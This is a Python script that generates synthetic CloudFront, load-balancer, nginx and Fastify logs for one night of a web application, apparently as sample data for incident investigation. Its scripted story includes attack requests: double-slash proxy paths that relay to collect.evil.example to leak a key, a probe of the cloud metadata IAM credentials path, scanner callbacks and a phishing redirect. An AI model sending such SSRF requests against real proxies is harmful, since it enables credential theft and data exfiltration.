"""Write `incident/`: one night of one application, as its CloudFront, ALB, nginx and Fastify logged it.

Run `python sample_logs/make_incident.py`; the same bytes come out every time. All addresses and names are those kept
for documentation (RFC 5737, RFC 3849, RFC 2606). The story, 30 March 2026, UTC:

    03:00-06:00  users; an old clerk-js that asks for /__clerk//v1 (its own bug); a monitor; a crawler
    03:41        a scanner finds repeated slashes, and the balancer's own rules stop it on its second try
    04:11-04:13  203.0.113.77 probes, then makes the proxy send the key to collect.evil.example, twice
    04:26        198.51.100.23 aims at the cloud's metadata service; the fetch fails
    04:48        the web application firewall at the edge stops a third client
    05:02        a user is lured from a forum to login.phish.example, session and all
"""

from __future__ import annotations

import gzip
import json
import random
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import quote

START = datetime(2026, 3, 30, 3, tzinfo=UTC)
HOURS = 3
HOST = "app.example.com"
CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/146.0.0.0 Safari/537.36"
)
SAFARI = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/19.3 Mobile/15E148 Safari/604.1"
)
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:148.0) Gecko/20100101 Firefox/148.0"
EDGES = [f"192.0.2.{number}" for number in (11, 12, 13)]  # CloudFront's own addresses, as the balancer sees them
ALB_NAME = "123456789012_elasticloadbalancing_us-east-2_app.prod-web.50dc6c495c0c9188"
BALANCERS = ["10.0.1.21", "10.0.2.34"]
CLERK = "_clerk_js_version=5.60.0&__clerk_api_version=2025-11-10"
FAILED = 119  # bytes of the chunked 502 that the proxy answers where its fetch fails, as nginx counts them


@dataclass(frozen=True)
class Request:
    """One request and how far it came: `edge` False enters at the balancer; `stopped` names the hop that refused it."""

    at: datetime
    client: str
    target: str
    status: int = 200
    agent: str = CHROME
    referer: str | None = None
    method: str = "GET"
    size: int = 1200
    seconds: float = 0.05
    edge: bool = True
    stopped: str | None = None
    cached: bool = False

    @property
    def via(self) -> str:
        """The edge's own address, which the balancer sees as its client and adds to X-Forwarded-For."""
        return EDGES[int(self.at.timestamp()) % len(EDGES)]


def clock(text: str) -> datetime:
    """Return a time of that night: `04:12:07.25`."""
    hours, minutes, seconds = text.split(":")
    return START.replace(hour=0) + timedelta(hours=int(hours), minutes=int(minutes), seconds=float(seconds))


def story() -> Iterator[Request]:
    """Yield the requests that matter."""
    curl, python = "curl/8.5.0", "python-requests/2.32.3"
    page = f"https://{HOST}/sign-in"
    yield Request(clock("03:41:10.2"), "198.51.100.140", "/__clerk/v1//client", 404, python)
    for second, target in ((14, "/__clerk//oast.scanner.example/1"), (15, "/__clerk///oast.scanner.example/2")):
        yield Request(clock(f"03:41:{second}.6"), "198.51.100.140", target, 403, python, edge=False, stopped="balancer")
    attacker = "203.0.113.77"
    yield Request(clock("04:11:40.1"), attacker, "/", 200, curl, size=5210)
    yield Request(clock("04:11:52.4"), attacker, "/__clerk/v1/environment", 200, curl, size=2210)
    yield Request(clock("04:11:58.9"), attacker, "/__clerk//", 500, curl, size=99)
    yield Request(clock("04:12:02.3"), attacker, "/__clerk/%2Fcollect.evil.example/ping", 404, curl, size=187)
    yield Request(
        clock("04:12:07.25"), attacker, "/__clerk//collect.evil.example/ping", 200, curl, size=12, seconds=0.41
    )
    yield Request(
        clock("04:12:31.8"), attacker, "/__clerk//collect.evil.example/k?s=1", 200, curl, size=12, seconds=0.22
    )
    target = "/__clerk//169.254.169.254/latest/meta-data/iam/"
    yield Request(clock("04:26:03.5"), "198.51.100.23", target, 502, python, size=FAILED, seconds=3.01)
    yield Request(
        clock("04:48:20.7"), "198.51.100.201", "/__clerk//beacon.scan.example/", 403, curl, size=919, stopped="edge"
    )
    user = "203.0.113.144"
    yield Request(clock("05:00:31.0"), user, "/", size=5210)
    yield Request(clock("05:00:31.6"), user, "/assets/app-9f2c.js", size=88410, referer=f"https://{HOST}/", cached=True)
    yield Request(clock("05:00:32.2"), user, f"/__clerk/v1/client?{CLERK}", size=1890, referer=page)
    lure = "https://forum.example.net/thread/8841"
    yield Request(
        clock("05:02:10.4"), user, "/__clerk//login.phish.example/welcome", 200, referer=lure, size=2301, seconds=0.3
    )
    yield Request(clock("05:02:55.1"), user, "/account", size=4105, referer=f"https://{HOST}/")


def everyday(dice: random.Random) -> Iterator[Request]:
    """Yield three hours of users, a monitor, a crawler, and one browser with an old clerk-js."""
    end = START + timedelta(hours=HOURS)
    users = [f"203.0.113.{n}" for n in range(10, 40)] + [f"198.51.100.{n}" for n in range(50, 70)] + ["2001:db8::17"]
    at = START
    while at < end - timedelta(seconds=20):
        yield from visit(dice, at, dice.choice(users), dice.choice([CHROME, SAFARI, FIREFOX]))
        at += timedelta(seconds=dice.uniform(60, 280))
    for minute in range(0, HOURS * 60, 15):
        yield Request(
            START + timedelta(minutes=minute, seconds=7.5), "198.51.100.5", "/healthz", 200, "monitor/2.1", size=2
        )
    for minute in (35, 96, 150):
        for number in range(2):
            target = (
                f"/__clerk//v1/client?{CLERK.replace('5.60.0', '5.10.2')}"
                if number
                else "/__clerk//npm/@clerk/clerk-js@5/dist/x.js"
            )
            when = START + timedelta(minutes=minute, seconds=3.2 + number)
            yield Request(when, "203.0.113.61", target, 502, FIREFOX, f"https://{HOST}/", size=FAILED, seconds=0.02)
    crawler = "Mozilla/5.0 (compatible; examplebot/1.0; +https://bot.example.org/)"
    for minute in (20, 80, 140):
        yield Request(START + timedelta(minutes=minute), "198.51.100.99", "/robots.txt", 200, crawler, size=64)


def visit(dice: random.Random, at: datetime, user: str, agent: str) -> Iterator[Request]:
    """Yield one user's page, its assets from the edge's cache, and what clerk-js asks for."""
    page = dice.choice(["/", "/sign-in", "/account", "/pricing?ref=a%20b"])
    here = f"https://{HOST}{page}"
    yield Request(at, user, page, 200, agent, size=dice.randint(4000, 6000), seconds=dice.uniform(0.02, 0.2))
    for name in ("app-9f2c.js", "style-77aa.css"):
        at += timedelta(seconds=dice.uniform(0.1, 0.4))
        yield Request(at, user, f"/assets/{name}", 200, agent, here, size=88410, seconds=0.002, cached=True)
    for path in ("environment", "client"):
        at += timedelta(seconds=dice.uniform(0.2, 0.9))
        target = f"/__clerk/v1/{path}?{CLERK}"
        yield Request(at, user, target, 200, agent, here, size=dice.randint(900, 2200), seconds=dice.uniform(0.05, 0.3))
    if dice.random() < 0.3:
        at += timedelta(seconds=dice.uniform(4, 20))
        yield Request(at, user, f"/__clerk/v1/client/sign_ins?{CLERK}", 200, agent, here, "POST", 1411, 0.21)


def cloudfront(requests: list[Request], dice: random.Random) -> str:
    """Return CloudFront's standard log: tab-separated, each field percent-encoded once (its docs: standard logs)."""
    names = (
        "date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) "
        "cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id x-host-header cs-protocol cs-bytes time-taken "
        "x-forwarded-for ssl-protocol ssl-cipher x-edge-response-result-type cs-protocol-version fle-status "
        "fle-encrypted-fields c-port time-to-first-byte x-edge-detailed-result-type sc-content-type sc-content-len "
        "sc-range-start sc-range-end"
    )
    lines = ["#Version: 1.0", f"#Fields: {names}"]
    for request in requests:
        path, _, query = request.target.partition("?")
        result = "Hit" if request.cached else "Error" if request.status >= 400 else "Miss"
        ended = request.at + timedelta(seconds=request.seconds)
        row = [
            f"{ended:%Y-%m-%d}", f"{ended:%H:%M:%S}", "IAD89-C3", request.size + 420, request.client, request.method,
            "d111111abcdef8.cloudfront.net", encoded(path), request.status, encoded(request.referer or "-"),
            encoded(request.agent), encoded(query or "-"), "-", result, edge_id(dice), HOST, "https",
            dice.randint(90, 400), f"{request.seconds:.3f}", "-", "TLSv1.3", "TLS_AES_128_GCM_SHA256", result,
            "HTTP/2.0", "-", "-", dice.randint(20000, 60000), f"{request.seconds:.3f}", result, "-", request.size,
            "-", "-",
        ]  # fmt: skip
        lines.append("\t".join(map(str, row)))
    return "\n".join(lines) + "\n"


def encoded(text: str) -> str:
    """Percent-encode as CloudFront does, once: a client's `%2F` reads `%252F`."""
    return quote(text, safe="/:;,.()=&?+*@!$-_")


def edge_id(dice: random.Random) -> str:
    """Return an x-edge-request-id."""
    return "".join(dice.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_", k=54)) + "=="


def balancer(requests: list[Request], dice: random.Random) -> str:
    """Return the ALB's access log; what its own rules answer was never forwarded: no `forward` among the actions."""
    group = "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/web/73e2d6bc24d8a067"
    certificate = "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012"
    lines = []
    for request in requests:
        ended = request.at + timedelta(seconds=request.seconds + 0.002)
        client = f"{request.via if request.edge else request.client}:{dice.randint(20000, 60000)}"
        stopped = request.stopped == "balancer"
        status, actions = ("-", "waf,fixed-response") if stopped else (request.status, "waf,forward")
        node = "-" if stopped else "10.0.3.5:8080"
        times = "-1 -1 -1" if stopped else f"0.000 {request.seconds:.3f} 0.000"
        trace = f"Root=1-{int(request.at.timestamp()):08x}-{dice.getrandbits(96):024x}"
        lines.append(
            f"https {ended:%Y-%m-%dT%H:%M:%S.%fZ} app/prod-web/50dc6c495c0c9188 {client} {node} {times} "
            f"{request.status} {status} {dice.randint(200, 900)} {request.size + 310} "
            f'"{request.method} https://{HOST}:443{request.target} HTTP/1.1" "{request.agent}" '
            f'ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 {"-" if stopped else group} "{trace}" "{HOST}" "{certificate}" '
            f'{3 if stopped else 1} {request.at:%Y-%m-%dT%H:%M:%S.%fZ} "{actions}" "-" "-" "{node}" "{status}" '
            f'"-" "-" TID_{dice.getrandbits(128):032x}'
        )
    return "\n".join(lines) + "\n"


def nginx(requests: list[Request], dice: random.Random) -> str:
    """Return nginx' log in its timed form: combined, X-Forwarded-For, host, the upstream's times and address."""
    lines = []
    for request in requests:
        ended = request.at + timedelta(seconds=request.seconds + 0.001)
        took = f"{request.seconds:.3f}"
        lines.append(
            f"{dice.choice(BALANCERS)} - - [{ended:%d/%b/%Y:%H:%M:%S} +0000] "
            f'"{request.method} {request.target} HTTP/1.1" {request.status} {request.size} "{request.referer or "-"}" '
            f'"{request.agent}" "{request.client}, {request.via}" host={HOST} '
            f'rt={took} uct="0.000" uht="{took}" urt="{took}" ua="127.0.0.1:3000"'
        )
    return "\n".join(lines) + "\n"


def fastify(requests: list[Request]) -> str:
    """Return the application's own log (pino): a line when a request comes, one when it is answered; errors between."""
    common = {"pid": 2114, "hostname": "web-1"}
    rows: list[dict[str, object]] = []
    for number, request in enumerate(requests, 1):
        came, answered = (int((request.at.timestamp() + extra) * 1000) for extra in (0.001, request.seconds))
        own = common | {"reqId": f"req-{base36(number)}"}
        asked = {
            "method": request.method,
            "url": request.target,
            "host": HOST,
            "remoteAddress": request.client,
            "remotePort": 40000 + number,
        }
        rows.append({"level": 30, "time": came} | own | {"req": asked, "msg": "incoming request"})
        if request.status == 500:
            error = {"type": "TypeError", "message": "Invalid URL", "code": "ERR_INVALID_URL", "input": "//"}
            rows.append(
                {"level": 50, "time": answered} | own
                | {"req": asked, "res": {"statusCode": 500}, "err": error, "msg": "Invalid URL"}
            )  # fmt: skip
        done = {"res": {"statusCode": request.status}, "responseTime": round(request.seconds * 1000, 3)}
        rows.append({"level": 30, "time": answered} | own | done | {"msg": "request completed"})
    rows.sort(key=lambda row: int(str(row["time"])))
    first = {"level": 30, "time": int(START.timestamp() * 1000) - 5210} | common
    rows.insert(0, first | {"msg": "Server listening at http://127.0.0.1:3000"})
    return "".join(json.dumps(row, separators=(",", ":")) + "\n" for row in rows)


def base36(number: int) -> str:
    """Return a number as Fastify counts its requests."""
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    return (base36(number // 36) if number >= 36 else "") + digits[number % 36]


def write(folder: Path) -> None:
    """Write the four hops' logs; gzip without a time, so that equal input gives equal bytes."""
    dice = random.Random(20260330)
    requests = sorted([*everyday(dice), *story()], key=lambda request: request.at)
    seen_at_edge = [one for one in requests if one.edge]
    seen_at_balancer = [one for one in requests if not one.cached and one.stopped != "edge"]
    seen_behind = [one for one in seen_at_balancer if one.stopped is None]
    for hour in range(HOURS):
        start = START + timedelta(hours=hour)
        end = start + timedelta(hours=1)
        part = [one for one in seen_at_edge if start <= one.at < end]
        packed(folder / "cloudfront" / f"E2EXAMPLE1ABCD.{start:%Y-%m-%d-%H}.a1b2c3d{hour}.gz", cloudfront(part, dice))
        part = [one for one in seen_at_balancer if start <= one.at < end]
        name = f"{ALB_NAME}_{end:%Y%m%dT%H%MZ}_203.0.113.200_2t2dto{hour}d.log.gz"
        packed(folder / "alb" / name, balancer(part, dice))
    (folder / "nginx").mkdir(parents=True, exist_ok=True)
    (folder / "nginx" / "access.log").write_text(nginx(seen_behind, dice), encoding="utf-8")
    (folder / "app").mkdir(parents=True, exist_ok=True)
    (folder / "app" / "app.log").write_text(fastify(seen_behind), encoding="utf-8")


def packed(path: Path, text: str) -> None:
    """Write a gzip file that holds no time and no name."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(gzip.compress(text.encode(), mtime=0))


if __name__ == "__main__":
    write(Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).parent / "incident")
